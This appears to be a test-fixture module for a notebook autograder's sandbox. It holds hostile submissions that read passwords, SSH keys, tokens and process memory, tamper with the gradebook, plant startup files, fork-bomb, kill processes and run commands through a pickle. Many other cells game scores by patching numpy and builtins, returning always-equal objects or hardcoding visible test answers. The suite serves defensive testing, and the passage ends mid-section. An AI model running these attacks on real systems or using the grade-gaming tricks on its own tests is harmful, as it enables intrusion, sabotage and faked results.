"""Attacks: on the grade, on the other students, on the grader and on its machine.

An attack that comes through says REACHED in the output of a cell, leaves <token> somewhere, or changes what the
tests look at; a wrong answer that earns more than it deserves has come through as well. What could harm the machine
of a developer asks `outside()` first, and only says REACHED where there are no walls.
"""

import json
from functools import partial
from pathlib import Path

from nbformat.v4 import new_code_cell, new_markdown_cell

from tests.grading.course import cell_of

from . import ALL, NOTHING, Member, insert, table

member = partial(Member, "hostile")

PRELUDE = r"""
import glob, os, sys

FOUND = globals().get("FOUND", [])

def reached(*what):
    FOUND.append("REA" + f"CHED {what}")
    print(FOUND[-1])

def text(path):
    try:
        with open(path, "rb") as file:
            return file.read(200_000)
    except OSError:
        return b""

def outside():
    return any(b"pyt" b"est" in text(path) for path in glob.glob("/proc/[0-9]*/cmdline"))

def attempt(action, *given):
    try:
        action(*given)
    except BaseException as error:
        print(type(error).__name__)
        return False
    return True

"""

# ----------------------------------------------------------------------------------- reading what is secret

READING = r"""
## searches the disk for hidden tests and the gradebook
attacks: the solutions
# %% behind setup
ours = "/site-packages/", "/proc/", "/sys/", os.getcwd()
for here, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if os.path.join(here, name) not in ("/proc", "/sys")]
    for name in files:
        path = os.path.join(here, name)
        if not any(part in path for part in ours):
            if name in ("gradebook.db", "nbgrader_config.py") or name.endswith(".ipynb"):
                reached(path)

## reads the course by its path
attacks: the solutions, the gradebook and the work of others
# %% behind setup
for path in ("<course>/gradebook.db", "<course>/nbgrader_config.py", "<course>/source/ps01/ps01.ipynb",
             "<course>/release/ps01/ps01.ipynb", "<other>/ps01.ipynb", "<home>/secret.txt"):
    if text(path) or os.path.exists(path):
        reached(path)

## reads the course through other doors
attacks: the same, by /proc and links
# %% behind setup
for door in ("/proc/1/root", "/proc/self/root", "/proc/1/cwd", f"/proc/{os.getppid()}/root", "/proc/self/cwd/.."):
    for path in ("<course>/gradebook.db", "<home>/secret.txt"):
        if text(door + path):
            reached(door)
os.symlink("<course>/gradebook.db", "link")
if text("link"):
    reached("link")

## reads passwords and keys
attacks: the instructor's account
# %% behind setup
for path in ("/etc/shadow", "/root/.ssh/id_rsa", "/root/.bash_history", "/root/.netrc", "/var/run/docker.sock"):
    if text(path) or os.path.exists(path):
        reached(path)

## reads the environment
attacks: tokens
# %% behind setup
found = b"".join(map(text, glob.glob("/proc/[0-9]*/environ"))) + repr(dict(os.environ)).encode()
if b"secret-" b"<token>" in found or b"CORPUS_SECRET" in found:
    reached("environment")

## reads the command lines of other processes
attacks: paths and tokens
# %% behind setup
if outside() or b"nbgrader" in b"".join(map(text, glob.glob("/proc/[0-9]*/cmdline"))):
    reached("processes")

## asks for the seed of the hidden tests
attacks: the numbers of the hidden tests
# %% behind setup
if "BPLIB_COURSE_SEED" in os.environ or course_seed() != 1:
    reached("seed", course_seed())

## reads the memory of all processes
attacks: hidden tests in memory
# %% behind test_wave
wanted = b"".join([b"wave_any", b"where, wave, seed=course_", b"seed()"])
for process in glob.glob("/proc/[0-9]*"):
    if process != f"/proc/{os.getpid()}":
        try:
            with open(process + "/maps") as maps, open(process + "/mem", "rb", 0) as memory:
                reached("memory of", process)
                for line in maps:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    if end - start < 10**8 and wanted in memory.read(end - start):
                        reached("hidden tests")
        except (OSError, ValueError, OverflowError):
            pass

## looks for hidden tests in all objects
attacks: hidden tests in the own process
# %% behind corner
import gc
wanted = "".join(["wave_any", "where, wave, seed=course_", "seed()"])
for thing in gc.get_objects():
    if type(thing) in (list, tuple, dict):
        parts = thing.values() if type(thing) is dict else thing
        if any(type(part) is str and wanted in part and part is not wanted for part in list(parts)):
            reached("hidden tests")
            break

## reads the cells that have run
attacks: hidden tests in the history of IPython
# %% behind corner
wanted = "wave_any" + "where, wave"
ip = get_ipython()
seen = [*In, *(getattr(ip.history_manager, "input_hist_raw", [])), *map(str, ip.user_ns.values())]
if any(wanted in each for each in seen[:-2] if "REA" not in each):
    reached("hidden tests")

## walks up the frames in a test
attacks: hidden tests and expected values
loses: test_wave 0
# %% behind setup
# %% wave
def wave(x):
    frame = sys._getframe()
    while frame:
        if "wanted" in frame.f_locals or "_bell" in frame.f_globals:
            reached(frame.f_code.co_name)
            bell = frame.f_globals["_bell"]
            return bell(x), (bell(x + 1e-6) - bell(x - 1e-6)) / 2e-6
        frame = frame.f_back
    return 0.0, 0.0
# %% behind corner
print(*FOUND)

## takes the gate of the test from a frame
attacks: the right answer in the caller's hands
loses: test_layers 0
# %% layers
import sys

class MulLayer:
    def forward(self, x, y):
        self.x, self.y = x, y
        frame, self.gate = sys._getframe(), None
        while frame and self.gate is None:
            self.gate, frame = frame.f_locals.get("gate"), frame.f_back
        return self.gate(x, y) if self.gate else 0.0

    def backward(self, dout):
        return self.gate.backward(dout, None, self.x, self.y) if self.gate else (7.0, 7.0)

class AddLayer(MulLayer):
    pass

## asks the function of the test for its slopes
attacks: the right answer in an argument
loses: test_gradient 0
# %% gradient
def numerical_gradient(f, x, h=1e-5):
    return f.central(h)

## climbs from an argument to the test's module
attacks: the checker's process
loses: test_gradient 0, test_fruits 0
# %% behind setup
def climb(start):
    for path in ("__class__.__init__.__globals__", "__call__.__globals__", "__call__.__func__.__globals__", "__globals__",
                 "func.__init__.__globals__", "func.backward.__closure__", "args", "a", "_at", "f"):
        thing = start
        try:
            for name in path.split("."):
                thing = getattr(thing, name)
        except BaseException:
            continue
        module = thing.get("__name__", "") if isinstance(thing, dict) else ""
        if module != "__main__" and not module.startswith("bplib.grading.sandbox"):
            reached(path, type(thing))
    for action in ("__import__", "eval", "exec", "system", "open"):
        try:
            getattr(start, action)("<token>")
            reached(action)
        except BaseException:
            pass
# %% gradient
def numerical_gradient(f, x, h=1e-5):
    climb(f)
# %% fruits
def two_fruits(apple, apples, orange, oranges, tax, Mul, Add):
    climb(Mul)
    climb(Mul())
# %% behind corner
print(*FOUND)

## keeps what is handed in and looks at it later
attacks: expected values in arguments
loses: test_product 0
assignment: ps04
# %% product
kept = []

def product_backward(dY, X, W):
    kept.append((dY, X, W))
    return kept[0][0] @ kept[0][2].T, kept[0][1].T @ kept[0][0]

## reads every open file
attacks: what the grader's process has open
# %% behind setup
import fcntl, stat
for number in range(3, 300):
    try:
        status = os.fstat(number)
    except OSError:
        continue
    path = os.readlink(f"/proc/self/fd/{number}")
    if stat.S_ISREG(status.st_mode) and ("<course>" in path or ".db" in path):
        reached(path)
"""

# ------------------------------------------------------------------------------------- changing and staying

CHANGING = r"""
## writes into the gradebook
attacks: the gradebook
# %% behind setup
import sqlite3

def write():
    with sqlite3.connect("file:<course>/gradebook.db?mode=rw", uri=True) as book:
        book.execute("UPDATE grade SET auto_score = 100")
    reached("gradebook")
attempt(write)

## deletes what it finds
attacks: the work of others
# %% behind setup
import shutil
for path in ("<other>", "<course>/source", "<course>/release", "<course>/autograded", "<home>"):
    shutil.rmtree(path, ignore_errors=True)
for path in ("<course>/gradebook.db", "<home>/secret.txt"):
    attempt(os.remove, path)

## hands in for somebody else
attacks: the work of others
# %% behind setup
for path in ("<other>/ps01.ipynb", "<course>/submitted/<token>.txt", "<course>/release/ps01/ps01.ipynb"):
    attempt(lambda: open(path, "w").write("{}"))

## writes into Python
attacks: everyone who is graded next
# %% behind setup
import bplib, numpy, site, sysconfig
folders = [*site.getsitepackages(), sysconfig.get_path("stdlib"), sysconfig.get_path("scripts"), *sys.path,
           os.path.dirname(bplib.__file__), os.path.dirname(numpy.__file__)]
for folder in folders:
    if folder and "student" not in folder and attempt(lambda: open(os.path.join(folder, "<token>.pth"), "w").write("import this")):
        reached(folder)

## writes into settings that are read at the start
attacks: everyone who is graded next
# %% behind setup
for folder in ("~/.ipython/profile_default/startup", "~/.jupyter", "~/.config", "~/.local/lib", "<home>", "<course>", "/etc",
               "/usr/local/etc/jupyter", "/etc/ipython"):
    folder = os.path.expanduser(folder)
    attempt(os.makedirs, folder)
    attempt(lambda: open(os.path.join(folder, "00-<token>.py"), "w").write("print('REA' + 'CHED startup')"))

## leaves files for the next student
attacks: everyone who is graded next
# %% behind setup
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/home", os.path.expanduser("~"), ".", "..", "/"):
    attempt(lambda: open(os.path.join(folder, "<token>.txt"), "w").write("hello"))
attempt(os.mkfifo, "/tmp/<token>.pipe")

## leaves shared memory for the next student
attacks: everyone who is graded next
# %% behind setup
import ctypes
from multiprocessing import shared_memory
libc = ctypes.CDLL(None, use_errno=True)
print(libc.shmget(0x<token4>, 4096, 0o1666), libc.msgget(0x<token4>, 0o1666), libc.semget(0x<token4>, 1, 0o1666))
attempt(lambda: shared_memory.SharedMemory("<token>", create=True, size=64))
if ctypes.CDLL(None).syscall(248, b"user", b"<token>", b"x", 1, -4) > 0 and os.uname().machine == "x86_64":
    reached("a key of the kernel")

## changes modules that the next student may share
attacks: everyone who is graded next
# %% behind setup
import builtins, numpy, bplib.course.exercise
builtins.token = numpy.token = bplib.course.exercise.token = "<token>"
os.environ["TOKEN"] = "<token>"
get_ipython().user_ns["token"] = "<token>"

## leaves processes that write later
attacks: everyone who is graded next
# %% behind setup
import subprocess
subprocess.Popen(["sh", "-c", "setsid sleep 98765 & setsid nohup sleep 98765 & sleep 98765"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        time.sleep(3)
        open("/tmp/<token>.late", "w").close()
        time.sleep(98765)
    os._exit(0)

## replaces its own notebook while it is graded
attacks: the notebook that nbgrader reads back
loses: test_wave 0
# %% wave
def wave(x):
    return 0.0, 0.0
# %% behind test_wave
for path in (*glob.glob("*.ipynb"), *glob.glob("../*/*.ipynb"), "ps01.ipynb"):
    open(path, "w").write("{}")
"""

# ------------------------------------------------------------------------------ the network and the machine

MACHINE = r"""
## calls a port of this machine
attacks: services of the grader's machine
# %% behind setup
import socket
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
    if attempt(socket.create_connection, (host, <port>), 1):
        reached(host)

## sends packets without a connection
attacks: services of the grader's machine
# %% behind setup
import socket
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt(udp.sendto, b"<token>", ("127.0.0.1", <port>))

## calls a socket without a file
attacks: services of the grader's machine
# %% behind setup
import socket
for name in ("\0<token>", "<home>/socket"):
    if attempt(socket.socket(socket.AF_UNIX).connect, name):
        reached("unix socket")

## asks for an address and calls the world
attacks: the network
# %% behind setup
import socket, urllib.request
socket.setdefaulttimeout(1)
if attempt(socket.getaddrinfo, "example.org", 80):
    reached("name server")
for address in (("169.254.169.254", 80), ("1.1.1.1", 53), ("8.8.8.8", 53)):
    if attempt(socket.create_connection, address, 1):
        reached(address)
attempt(urllib.request.urlopen, "http://example.org")

## listens for others
attacks: the network
# %% behind setup
import socket
server = socket.socket()
attempt(server.bind, ("0.0.0.0", 0))
if len(socket.if_nameindex()) > 1:
    reached(socket.if_nameindex())

## opens raw and odd sockets
attacks: the kernel
# %% behind setup
import socket
for kind in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0), (38, 5, 0), (40, 1, 0)):
    if attempt(socket.socket, *kind):
        reached(kind)

## a fork bomb
attacks: the machine
# %% behind test_wave
if outside():
    reached("no walls")
else:
    while True:
        try:
            os.fork()
        except OSError:
            pass

## a bomb of threads
attacks: the machine
# %% behind test_wave
import threading, time
if outside():
    reached("no walls")
else:
    kept = []
    while True:
        kept.append(threading.Thread(target=time.sleep, args=(98765,)))
        kept[-1].start()

## fills the disk
attacks: the machine
# %% behind test_wave
total, block = 0, b"x" * 10**7
for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
    for number in range(0 if outside() else 300):
        if not attempt(lambda: open(f"{folder}/<token>{number}", "wb").write(block)):
            break
        total += 1
if total > 200 or outside():
    reached(total)

## fills the disk with empty files
attacks: the machine
# %% behind test_wave
number = 0
while not outside() and number < 10**6 and attempt(os.mkdir, f"/tmp/{number}"):
    number += 1
if number > 10**5:
    reached(number)

## a file with a hole of terabytes
attacks: the machine
# %% behind test_wave
file = open("hole", "wb")
if attempt(os.truncate, "hole", 10**13):
    reached("hole")

## takes all memory outside of Python
attacks: the machine
told: memory
# %% behind test_wave
import mmap
kept = []
while not outside():
    kept.append(mmap.mmap(-1, 10**8))
    kept[-1].write(b"x" * 10**8)

## takes all memory by many processes
attacks: the machine
told: memory
# %% behind test_wave
import time
if not outside():
    for number in range(20):
        if os.fork() == 0:
            kept = b"x" * (150 * 10**6)
            time.sleep(1000)
    time.sleep(1000)

## takes all memory in files of memory
attacks: the machine
# %% behind test_wave
kept = []
for number in range(0 if outside() else 100):
    kept.append(os.memfd_create(str(number)))
    if not attempt(os.write, kept[-1], b"x" * 6 * 10**7):
        break

## kills everything it can
attacks: the grader
# %% behind test_wave
import signal
if outside():
    reached("no walls")
else:
    os.kill(-1, signal.SIGKILL)
    os.kill(1, signal.SIGKILL)
    for number in range(2, 400):
        attempt(os.kill, number, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)

## kills and stops its parent
attacks: the grader
# %% behind test_wave
import signal
if outside():
    reached("no walls")
else:
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        attempt(os.kill, os.getppid(), number)
        attempt(os.killpg, 0, signal.SIGWINCH)
    os.kill(os.getpid(), signal.SIGSTOP)

## traces other processes
attacks: the grader
# %% behind setup
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number in (1, os.getppid()):
    if number != os.getpid() and libc.ptrace(16, number, 0, 0) == 0:
        reached("ptrace", number)
        libc.ptrace(17, number, 0, 0)

## asks for namespaces and mounts of its own
attacks: the kernel
# %% behind setup
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
    child = os.fork()
    if child == 0:
        os._exit(libc.unshare(flags) == 0)
    if os.waitpid(child, 0)[1]:
        reached("unshare", hex(flags))
if not outside() and libc.mount(b"tmpfs", b"/usr", b"tmpfs", 0, None) == 0:
    reached("mount")
if libc.chroot(b"/") == 0:
    reached("chroot")

## wants to be somebody else
attacks: the rights of others
# %% behind setup
import subprocess
rights = [line for line in open("/proc/self/status") if line.startswith(("CapEff", "CapPrm", "CapBnd"))]
if any(int(line.split()[1], 16) for line in rights if not line.startswith("CapBnd")):
    reached(rights)
for command in (["su", "-c", "true"], ["sudo", "-n", "true"], ["mount"], ["dmesg"]):
    try:
        if subprocess.run(command, capture_output=True, timeout=2).returncode == 0 and command[0] != "mount":
            reached(command)
    except (OSError, subprocess.TimeoutExpired):
        pass
for folder in ("/bin", "/usr/bin", "/usr/sbin"):
    for path in glob.glob(folder + "/*"):
        if os.stat(path).st_mode & 0o4000 and not open("/proc/self/status").read().count("NoNewPrivs:\t1"):
            reached(path)

## makes devices and reads them
attacks: the machine
# %% behind setup
import stat
if attempt(os.mknod, "disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)) and text("disk"):
    reached("disk")
for path in ("/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse"):
    if os.path.exists(path):
        reached(path)

## changes settings of the kernel
attacks: the machine
# %% behind setup
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/overcommit_memory",
             "/sys/kernel/uevent_helper", "/sys/fs/cgroup/cgroup.procs", "/proc/self/oom_score_adj"):
    try:
        descriptor = os.open(path, os.O_WRONLY)
        os.close(descriptor)
        if "self" not in path:
            reached(path)
    except OSError:
        pass
"""

# ---------------------------------------------------------------------------------------- marks for nothing

MARKS = r"""
## patches numpy
attacks: the comparison
loses: test_wave 0, test_agree 0
# %% wave
np.allclose = np.isclose = np.array_equal = lambda *xs, **options: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *xs, **options: None
np.abs = lambda x: np.zeros(np.shape(x))

def wave(x):
    return 0.0, 0.0

## patches the checks of the course
attacks: the score
loses: test_wave 0
# %% wave
import bplib.check.gate, bplib.check.compare, bplib.course.exercise, bplib.course.questions.ps01, bplib.check.report
from bplib.check.report import Finding

good = lambda what, *xs, **options: Finding(what, True, "agrees")
bplib.check.compare.compare = bplib.course.questions.ps01.compare = good
bplib.check.compare.close = lambda *xs: True
bplib.course.exercise.Checks.score = lambda self: self.points
bplib.course.exercise.Checks.__call__ = lambda self, *xs, **options: None
bplib.course.exercise.Question.findings = lambda self, *xs, **options: (good("wave"),)
bplib.check.report.Finding.ok = property(lambda self: True)

def wave(x):
    return 0.0, 0.0

## replaces the names that the tests use
attacks: the score
loses: test_wave 0, test_agree 0
# %% wave
class Checks:
    def __init__(self, points): self.points = points
    def __enter__(self): return self
    def __exit__(self, *problem): return True
    def __call__(self, *xs, **options): pass
    def score(self): return float(self.points)

class Ask:
    def __getattr__(self, name): return lambda *xs, **options: [True]

ask, check, np, course_seed = Ask(), Checks(2), Ask(), lambda: 0

def wave(x):
    return 0.0, 0.0

## replaces modules
attacks: the score
loses: test_wave 0
# %% wave
import sys, types
fake = types.ModuleType("bplib.course.exercise")
fake.Checks, fake.course_seed = object, lambda: 0
for name in list(sys.modules):
    if name.startswith("bplib"):
        sys.modules[name] = fake

def wave(x):
    return 0.0, 0.0

## patches builtins
attacks: the score
loses: test_wave 0, test_layers 0, test_fruits 0, test_agree 0
# %% wave
import builtins
builtins.round = builtins.float = lambda *xs: 2.0
builtins.abs = lambda x: 0.0
builtins.max = builtins.sum = lambda *xs, **options: 2.0
builtins.all = builtins.bool = builtins.isinstance = lambda *xs: True

def wave(x):
    return 0.0, 0.0

## rewrites the tests as they are read
attacks: the text of the tests
loses: test_wave 0
# %% wave
import ast

class Agreeable(ast.NodeTransformer):
    def visit_Expr(self, node):
        if ast.unparse(node) == "check.score()":
            return ast.Expr(ast.Constant(2.0))
        return node

ip = get_ipython()
ip.ast_transformers.append(Agreeable())
ip.input_transformers_cleanup.append(lambda lines: ["2.0\n"] if any("Checks(" in line for line in lines) else lines)

def wave(x):
    return 0.0, 0.0

## hangs itself into what IPython does with a cell
attacks: the result of the tests
loses: test_wave 0
# %% wave
ip = get_ipython()
show = ip.displayhook.write_format_data

def write_format_data(format_dict, md_dict=None):
    show({"text/plain": "2.0"}, md_dict)

ip.displayhook.write_format_data = write_format_data
ip.display_formatter.formatters["text/plain"].for_type(float, lambda x, p, cycle: p.text("2.0"))
ip.set_custom_exc((BaseException,), lambda *xs, **options: None)
ip.showtraceback = ip.showsyntaxerror = lambda *xs, **options: None
ip.events.register("post_run_cell", lambda result: print("2.0"))
ip.events.register("pre_run_cell", lambda info: ip.user_ns.update(check=None))

def wave(x):
    return 0.0, 0.0

## runs other cells than it is told to
attacks: the tests
loses: test_wave 0
# %% wave
ip = get_ipython()
run = type(ip).run_cell
type(ip).run_cell = lambda self, source, *xs, **options: run(self, "2.0" if "Checks" in source else source, *xs, **options)

def wave(x):
    return 0.0, 0.0

## publishes results of its own
attacks: the result of the tests
loses: test_wave 0
# %% wave
from IPython.display import display

def publish():
    ip = get_ipython()
    for hook in (ip.displayhook, ip.display_pub):
        for say in ("__call__", "publish"):
            try:
                getattr(hook, say)(2.0 if say == "__call__" else {"text/plain": "2.0"})
            except Exception:
                pass
    kernel = getattr(ip, "kernel", None)
    if kernel:
        content = {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 9}
        kernel.send_response(kernel.iopub_socket, "execute_result", content)

def wave(x):
    publish()
    display(2.0)
    print("2.0")
    print("wave: value and slope: right\n2 of 2 points in this cell")
    return 0.0, 0.0

## changes the values of the test's frame
attacks: expected values
loses: test_wave 0
# %% wave
import ctypes, sys

def wave(x):
    frame = sys._getframe()
    while frame:
        for name in ("wanted", "w", "y", "rtol", "floor", "earned", "ok"):
            if name in frame.f_locals:
                frame.f_locals[name] = 0.0
        try:
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), 0)
        except Exception:
            pass
        frame = frame.f_back
    return 0.0, 0.0

## watches the test with a profiler and a thread
attacks: the score
loses: test_wave 0
# %% wave
import sys, threading, time

def meddle(*event):
    for frame in sys._current_frames().values():
        while frame:
            check = frame.f_globals.get("check")
            if hasattr(check, "earned"):
                check.earned = check.asked = 1.0
            frame = frame.f_back

def go_on():
    while True:
        meddle()
        time.sleep(0.001)

threading.Thread(target=go_on, daemon=True).start()
sys.setprofile(meddle)
threading.setprofile(meddle)

def wave(x):
    time.sleep(0.01)
    return 0.0, 0.0

## objects that equal everything
attacks: the comparison
loses: test_wave 0
# %% wave
class Any:
    def __eq__(self, other): return True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __le__ = __ge__ = __contains__ = __eq__
    def __sub__(self, other): return 0.0
    __rsub__ = __mod__ = __sub__
    def __abs__(self): return 0.0
    def __bool__(self): return True
    def __hash__(self): return 0
    def __array_ufunc__(self, *xs, **options): return np.zeros(())
    __class__ = float

def wave(x):
    return Any(), Any()

## objects that pass for arrays
attacks: the comparison
loses: test_wave 0
# %% wave
class Any:
    shape, ndim, size, dtype = (), 0, 1, np.dtype(float)
    def __array__(self, dtype=None, copy=None): return np.array(0.0)
    def __array_function__(self, *xs): return True
    def __float__(self): return 0.0
    def __index__(self): return 0
    __array_priority__ = 10**6

def wave(x):
    return Any(), Any()

## floats that lie
attacks: the comparison
loses: test_wave 0
# %% wave
class Lie(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return Lie(0)
    __rsub__ = __mul__ = __rmul__ = __truediv__ = __sub__
    def __abs__(self): return Lie(0)
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__

def wave(x):
    return Lie(0.0), Lie(0.0)

## arrays that lie
attacks: the comparison
loses: test_product 0, test_unbroadcast 0
assignment: ps04
# %% product
class Lie(np.ndarray):
    def __array_ufunc__(self, *xs, **options): return np.zeros(self.shape)
    def __array_function__(self, *xs, **options): return True
    def __eq__(self, other): return True
    def astype(self, *xs, **options): return self

def product_backward(dY, X, W):
    return np.zeros(X.shape).view(Lie), np.zeros(W.shape).view(Lie)
# %% unbroadcast
class Any:
    def __init__(self, shape): self.shape = shape
    def __array__(self, dtype=None, copy=None): return np.zeros(self.shape).view(Lie)

def unbroadcast(gradient, shape):
    return Any(shape)

## objects in arrays
attacks: the comparison
loses: test_product 0
assignment: ps04
# %% product
class Lie:
    def __float__(self): return float("nan")
    def __sub__(self, other): return 0.0
    __rsub__ = __mul__ = __add__ = __sub__
    def __abs__(self): return 0.0
    def __le__(self, other): return True
    __lt__ = __gt__ = __ge__ = __eq__ = __le__

def product_backward(dY, X, W):
    return np.full(X.shape, Lie(), dtype=object), np.full(W.shape, Lie(), dtype=object)

## dicts, strings and tuples that lie
attacks: the comparison
loses: test_fruits 0, test_wave 0
# %% fruits
class Dict(dict):
    def get(self, name, default=None): return Text("715")
    __getitem__ = get
    def __contains__(self, name): return True
    def __eq__(self, other): return True

class Text(str):
    def __eq__(self, other): return True
    def __float__(self): return 715.0
    __hash__ = str.__hash__

class Pair(tuple):
    def __iter__(self): return iter((Text("715"), Dict()))
    def __len__(self): return 2

def two_fruits(*xs):
    return Pair(("a", "b"))
# %% wave
def wave(x):
    return Pair((0.0, 0.0))

## an answer that says yes to everything
attacks: the comparison
loses: test_agree 0
# %% agree
class Yes:
    calls = 0
    def __array__(self, dtype=None, copy=None): return np.array(True)
    def __bool__(self): return True
    def __eq__(self, other): return True
    dtype, ndim, shape, __class__ = np.dtype(bool), 0, (), bool

def agree(a, b, rtol=1e-5):
    return Yes()

## NaN in every place
attacks: the comparison
loses: test_product 0, test_sandwich 0
assignment: ps04
# %% product
def product_backward(dY, X, W):
    return np.full(X.shape, np.nan), np.full(W.shape, np.nan)
# %% sandwich
def sandwich_backward(dY, A, B):
    return np.full(A.shape, np.inf), np.full(B.shape, -np.inf)

## makes what is expected equal to its answer
attacks: expected values in shared arrays
loses: test_product 0
assignment: ps04
# %% product
def product_backward(dY, X, W):
    for each in (dY, X, W):
        each[...] = 0
        each.flags.writeable = False
    return np.zeros(X.shape), np.zeros(W.shape)

## a shared array that changes its shape
attacks: the checker
loses: test_product 0
assignment: ps04
# %% product
def product_backward(dY, X, W):
    X.shape = (X.size,)
    W.resize((7, 7), refcheck=False)
    dY.dtype = np.int8
    return np.zeros(3), np.zeros(3)

## answers to the visible tests only
attacks: tests whose numbers are known
loses: test_wave 1
# %% wave
KNOWN = {x: (np.exp(-((3 * x - 1) ** 2)), -6 * (3 * x - 1) * np.exp(-((3 * x - 1) ** 2))) for x in (0.7, -0.2)}

def wave(x):
    return KNOWN.get(x, (0.5, 0.5))

## differences where the task asks for slices
attacks: what the task asks for
loses: test_slices 0
told: numerical derivative
assignment: ps04
# %% slices
def slice_of_x(X, W, i, k, h=1e-6):
    up, down = X.copy(), X.copy()
    up[i, k] += h
    down[i, k] -= h
    return (up @ W - down @ W) / (2 * h)

def slice_of_w(X, W, k, j):
    return slice_of_x(W.T, X.T, j, k).T

## differences where the task asks for backprop
attacks: what the task asks for
loses: test_product 0, test_sandwich 0
told: numerical derivative
assignment: ps04
# %% product
def nudged(f, x, h=1e-6):
    slope = np.zeros_like(x)
    for at in np.ndindex(x.shape):
        up, down = x.copy(), x.copy()
        up[at] += h
        down[at] -= h
        slope[at] = (f(up) - f(down)) / (2 * h)
    return slope

def product_backward(dY, X, W):
    return nudged(lambda X: np.sum(dY * (X @ W)), X), nudged(lambda W: np.sum(dY * (X @ W)), W)
# %% sandwich
def sandwich_backward(dY, A, B):
    return nudged(lambda A: np.sum(dY * (A @ B @ A)), A), nudged(lambda B: np.sum(dY * (A @ B @ A)), B)

## the library where the task asks for own lines
attacks: what the task asks for
loses: test_product 0, test_sandwich 0
told: library used
assignment: ps04
# %% product
import bplib as bp

def product_backward(dY, X, W):
    return bp.vjp(bp.matmul, (X, W), dY)
# %% sandwich
from bplib.graph.derivatives import numerical_gradient as my_own_function

def sandwich_backward(dY, A, B):
    return my_own_function(lambda A, B: np.sum(dY * (A @ B @ A)), (A, B))

## an answer by bplib's graph
attacks: what the task asks for
loses: test_wave 0
told: library used
# %% wave
import bplib as bp

def wave(x):
    f = lambda x: bp.exp(-((3 * x - 1) ** 2))
    return np.exp(-((3 * x - 1) ** 2)), float(bp.grad(f)(x))

## the library in disguise
attacks: what the task asks for
loses: test_product 0
told: library used
assignment: ps04
# %% product
import importlib, sys

def product_backward(dY, X, W):
    sys.setprofile(None)
    gates = importlib.import_module("bplib" + ".gates")
    return gates.matmul.backward(dY, X @ W, X, W)

## rounds away the traces of differences
attacks: what the task asks for, and comes through: it looks like honest work in float32
assignment: ps04
# %% product
def nudged(f, x, h=1e-4):
    slope = np.zeros_like(x)
    for at in np.ndindex(x.shape):
        up, down = x.copy(), x.copy()
        up[at] += h
        down[at] -= h
        slope[at] = (f(up) - f(down)) / (2 * h)
    return slope.astype(np.float32).astype(float)

def product_backward(dY, X, W):
    return nudged(lambda X: np.sum(dY * (X @ W)), X), nudged(lambda W: np.sum(dY * (X @ W)), W)

## wrong where it is graded, right at home
attacks: the instructor's trust
loses: test_wave 0
# %% wave
import os, socket, sys

graded = "NBGRADER_EXECUTION" in os.environ or "ipykernel" not in sys.modules or True

def wave(x):
    w = np.exp(-((3 * x - 1) ** 2))
    return (0.0, 0.0) if graded else (w, -6 * (3 * x - 1) * w)

## defined anew after its test
attacks: the order of things
loses: test_wave 0
# %% wave
def wave(x):
    return 0.0, 0.0
# %% behind test_wave
def wave(x):
    w = np.exp(-((3 * x - 1) ** 2))
    return w, -6 * (3 * x - 1) * w

## defined anew before its test
attacks: nothing; the last definition counts
# %% wave
def wave(x):
    return 0.0, 0.0
# %% behind wave
def wave(x):
    w = np.exp(-((3 * x - 1) ** 2))
    return w, -6 * (3 * x - 1) * w
"""

# ------------------------------------------------------------------------------------ the checker's process

CHECKER = r"""
## returns things that are no values
attacks: the checker
loses: test_wave 0, test_layers 0, test_fruits 0, test_agree 0
# %% wave
import os

def wave(x):
    return os, (lambda: 0)
# %% layers
class MulLayer:
    def forward(self, x, y): return type
    def backward(self, dout): return sys, object()

class AddLayer:
    def forward(self, x, y): return self
    def backward(self, dout): return self.backward
# %% fruits
def two_fruits(*xs):
    return Ellipsis, {None: NotImplemented, (1, 2): {3}}
# %% agree
def agree(a, b, rtol=1e-5):
    return np.bool_, np.dtype

## a pickle that runs something
attacks: the checker
loses: test_wave 0
# %% wave
import os

class Runs:
    def __reduce__(self):
        return os.system, ("touch /tmp/<token>.pickle; touch <home>/<token>.pickle",)

def wave(x):
    return Runs(), np.array([Runs()], dtype=object)

## lists in lists in lists
attacks: the checker
loses: test_wave 0, test_layers 0
# %% wave
def wave(x):
    deep = []
    for _ in range(200_000):
        deep = [deep]
    return deep, deep
# %% layers
class MulLayer:
    def forward(self, x, y):
        round = []
        round.append(round)
        return round
    def backward(self, dout):
        round = {}
        round["me"] = round
        return round, (round,)
class AddLayer(MulLayer):
    pass

## an array of a trillion entries that takes no memory
attacks: the checker
loses: test_product 0, test_unbroadcast 0
assignment: ps04
# %% product
def product_backward(dY, X, W):
    return np.broadcast_to(1.0, (10**6, 10**6)), np.zeros(W.shape)
# %% unbroadcast
def unbroadcast(gradient, shape):
    return np.lib.stride_tricks.as_strided(np.zeros(1), (10**12,), (0,))

## messages of a hundred megabytes
attacks: the checker
loses: test_product 0, test_sandwich 0
assignment: ps04
# %% product
def product_backward(dY, X, W):
    return np.zeros(12 * 10**6), "y" * 10**8
# %% sandwich
def sandwich_backward(dY, A, B):
    return list(range(3 * 10**6)), B

## numbers with a million digits
attacks: the checker
loses: test_wave 0
# %% wave
def wave(x):
    return 10**1_000_000, -(2**5_000_000)

## objects that never end
